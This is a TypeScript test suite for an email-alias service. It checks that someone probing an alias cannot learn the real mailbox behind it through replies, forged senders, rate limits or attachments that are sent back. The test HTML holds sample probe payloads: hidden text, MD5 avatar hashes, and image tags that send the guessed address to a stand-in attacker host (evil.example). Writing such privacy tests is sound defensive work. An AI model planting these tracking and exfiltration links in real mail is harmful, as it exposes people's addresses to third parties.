// A contact that guesses: whatever it writes comes back to it as it was, so that no answer tells whether a guess was the
// mailbox (POST /v1/inbound-emails/simulate).
import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { after, test } from "node:test";
import { C, D, IP_C, startMaskedSimulation } from "../support/masked-simulation.ts";

const { alias, reverse, simulate, activity, close } = await startMaskedSimulation();
after(close);

const OTHER = D.replace("anna", "annb");

/** The mail that a list with this guess makes of an answer, and the guesses of a second mail of somebody else. */
async function answerTo(guess: string) {
  const a = await alias();
  const b64 = Buffer.from(`a@x.example,${guess}`).toString("base64");
  const html = [
    `<div style="display:none">first@x.example ${guess} last@x.example</div>`,
    `<img src="https://evil.example/${b64}.gif"><img src="https://evil.example/?e=${guess}">`,
    `<img src="https://pictures.example/avatar/${md5(guess)}?s=80"><p>${md5(guess)}</p>`,
    `<p>${guess.replace("@", "&#64;")} ${guess.replace("@", " at ")} <b>${guess.slice(0, 2)}</b>${guess.slice(2)}</p>`,
  ].join("");
  const ids = ["<1@x.example>", `<${guess}>`, "<2@x.example>"];
  const asked = await simulate({
    from: C,
    to: a.full,
    head: `To: ${a.full}\r\nCc: first@x.example, ${guess}, last@x.example\r\nSubject: account of ${guess}\r\nMessage-ID: <m.${guess}>\r\nReferences: ${ids.join(" ")}\r\nContent-Type: text/html\r\n`,
    text: html,
  });
  const [forward] = asked.messages;
  const { mail } = forward;
  const people = [mail.from, ...(mail.cc ?? [])].map(({ address }: { address: string }) => address);
  const { messages } = await simulate({
    to: people,
    head: `To: ${people[0]}\r\nCc: ${people.slice(1).join(", ")}\r\nSubject: Re: ${mail.subject}\r\nIn-Reply-To: ${mail.messageId}\r\nReferences: ${mail.references} ${mail.messageId}\r\nContent-Type: text/html\r\n`,
    text: `<p>Yes. ${D}</p><blockquote>${mail.html}</blockquote>`,
  });
  const reply = messages.find(({ recipient }) => recipient === C)?.mail;
  assert.ok(reply, (await activity(a.id)).join("; "));
  const { subject, html: body, cc, inReplyTo, references } = reply;
  const seen = { subject, body, inReplyTo, references, cc: cc.map(({ address }: { address: string }) => address) };
  return { seen: JSON.stringify(seen).replaceAll(a.full, "ALIAS"), shown: mail.html as string, a };
}

test("the answer to a list with the mailbox on it is that to any other list", async () => {
  const [reported, guessed] = [await answerTo(D), await answerTo(OTHER)];
  assert.equal(
    reported.seen,
    guessed.seen
      .replace(/annb|(?<=<.b>)nb/g, (name) => name.replace("b", "a"))
      .replaceAll(b64Of(OTHER), b64Of(D))
      .replaceAll(md5(OTHER), md5(D)),
  );
  assert.ok(reported.seen.includes("Yes. ALIAS"), "the mailbox's own words stay clean");
  assert.ok(reported.seen.split(md5(D)).length === 3, "as it was sent");
  const stays = [`avatar/${md5(D)}?s=80`, `https://evil.example/?e=${D}`, `${b64Of(D)}.gif`];
  for (const link of stays) assert.ok(reported.shown.includes(link), link);
});

/** As addresses of people's pictures hold it. */
function md5(email: string): string {
  return createHash("md5").update(email).digest("hex");
}

function b64Of(guess: string): string {
  return Buffer.from(`a@x.example,${guess}`).toString("base64");
}

test("what one contact wrote of the mailbox is shown to no other", async () => {
  const { a } = await answerTo(D);
  const [other, own] = [await reverse(a.id, "other@party.example"), await reverse(a.id, D)];
  const { messages } = await simulate({ to: other, text: `> ${own}\r\n> https://evil.example/?e=${D}\r\n> ${D}` });
  assert.deepEqual([messages.length, messages[0]?.raw.includes(D)], [1, false]);
});

test("a forged author is answered as a stranger is, at the alias and at a reverse address", async () => {
  const a = await alias();
  const r = await reverse(a.id);
  for (const to of [r, a.full]) {
    const answers: string[] = [];
    for (const from of [D, OTHER]) {
      const { said, message, messages } = await simulate({ from, envelope: C, ip: IP_C, to });
      const shown = JSON.stringify([said, message, messages.length]);
      answers.push(shown);
    }
    assert.equal(answers[0], answers[1], to);
  }
});

test("a guess in a text takes none of the day's new contacts, and one among the people of a mail takes one, right or wrong", async () => {
  const saidTo = async (guess: string) => {
    const a = await alias();
    const cc = (from: number, count: number) =>
      `Cc: ${Array.from({ length: count }, (_, n) => `p${from + n}@party.example`).join(", ")}\r\n`;
    const write = async (head: string, text: string) => (await simulate({ from: C, to: a.full, head, text })).said;
    const said = [await write("", `Is it ${guess}?`)];
    for (let n = 0; n < 6; n += 1) said.push(await write(cc(n * 30, 30), "Hello"));
    said.push(await write(cc(180, 19), "These are 200 with the author."), await write(`Cc: ${guess}\r\n`, "One more"));
    return said;
  };
  const [right, wrong] = [await saidTo(D), await saidTo(OTHER)];
  assert.deepEqual(right, wrong);
  assert.deepEqual(right.slice(-2), ["250 2.0.0", "450 4.7.1"]);
});

/** The parts of a mail with their fields and contents; what is new in each mail stands as `NEW`. */
function partsOf(raw: string): string[] {
  const [head = "", ...rest] = raw.split("\r\n\r\n");
  const [body, fields] = [rest.join("\r\n\r\n"), head.replace(/\r\n[ \t]+/g, " ")];
  const named = (pattern: RegExp) => pattern.exec(fields)?.[1] ?? "";
  const shown = fields.replace(/^(?:Date|Message-ID|DKIM-Signature|X-Postern-Id):.*$|(?<=boundary=).*/gim, "NEW");
  const boundary = named(/boundary="?([^";\r\n]+)/i);
  const within =
    boundary !== ""
      ? `\r\n${body}`.split(`\r\n--${boundary}`).slice(1, -1)
      : /^Content-Type: message\/rfc822/im.test(fields)
        ? [`\r\n${body}`]
        : null;
  if (within) return [shown, ...within.flatMap((part) => partsOf(part.slice(2)))];
  const encoding = named(/^Content-Transfer-Encoding: (\S+)/im);
  const bytes = encoding === "base64" ? Buffer.from(body, "base64") : Buffer.from(body, "latin1");
  const text = bytes.toString("latin1");
  return [shown, encoding === "quoted-printable" ? text.replace(/=\r\n/g, "").replaceAll("=3D", "=") : text];
}

test("a mail that is sent back attached tells nothing of a guess in its texts and files, whatever fields and charsets they have", async () => {
  const wide = (text: string) => Buffer.from(text, "utf16le").toString("base64");
  const file = (type: string, content: string) => `Content-Type: ${type}\r\n${content}`;
  const attached = [
    (guess: string) => file("text/csv; name=a.csv", `\r\na,${guess}`),
    (guess: string) => file("text/vcard; name=a.vcf", `\r\nBEGIN:VCARD\r\nFN:x\r\nEMAIL:${guess}\r\nEND:VCARD`),
    (guess: string) =>
      file("text/plain; charset=utf-16le; name=a.txt", `Content-Transfer-Encoding: base64\r\n\r\n${wide(guess)}`),
    (guess: string) =>
      file(
        "text/plain; charset=latin1; name=a.txt",
        `Content-Transfer-Encoding: quoted-printable\r\n\r\ncaf=E9 ${guess}`,
      ),
    (guess: string) => file("application/json; name=a.json", `\r\n{"who":"${guess}"}`),
    (guess: string) =>
      file("application/octet-stream; name=a.bin", `Content-Transfer-Encoding: base64\r\n\r\n${wide(guess)}`),
    (guess: string) =>
      file("message/rfc822", `\r\nFrom: ${guess}\r\nTo: x@y.example\r\nSubject: s\r\n\r\nHello ${guess}`),
    (guess: string) =>
      file(
        "message/rfc822",
        `\r\nSubject: ${guess}\r\nContent-Type: multipart/alternative; boundary=q\r\n\r\n--q\r\n\r\n${guess}\r\n--q\r\nContent-Type: text/html\r\n\r\n<b>${guess}</b>\r\n--q--`,
      ),
  ];
  for (const [at, write] of attached.entries()) {
    const answers = await Promise.all(
      [D, OTHER].map(async (guess) => {
        const a = await alias();
        const head = `To: ${a.full}\r\nContent-Type: multipart/mixed; boundary=x\r\n`;
        const asked = await simulate({
          from: C,
          to: a.full,
          head,
          text: `--x\r\n\r\nhello\r\n--x\r\n${write(guess)}\r\n--x--`,
        });
        const { messages } = await simulate({
          to: asked.messages[0].mail.from.address,
          head: "Content-Type: multipart/mixed; boundary=outer\r\n",
          text: `--outer\r\n\r\nsee\r\n--outer\r\nContent-Type: message/rfc822\r\n\r\n${asked.messages[0].raw}\r\n--outer--`,
        });
        assert.equal(messages.length, 1, `${at}: ${(await activity(a.id)).join("; ")}`);
        return partsOf(messages[0].raw.trimEnd()).map((part) => part.replaceAll(a.full, "ALIAS"));
      }),
    );
    const [right, wrong] = answers;
    const turned = wrong?.map((part) => part.replace(/annb|a\0n\0n\0b/g, (name) => name.replace("b", "a")));
    assert.deepEqual(right, turned, `${at}`);
  }
});
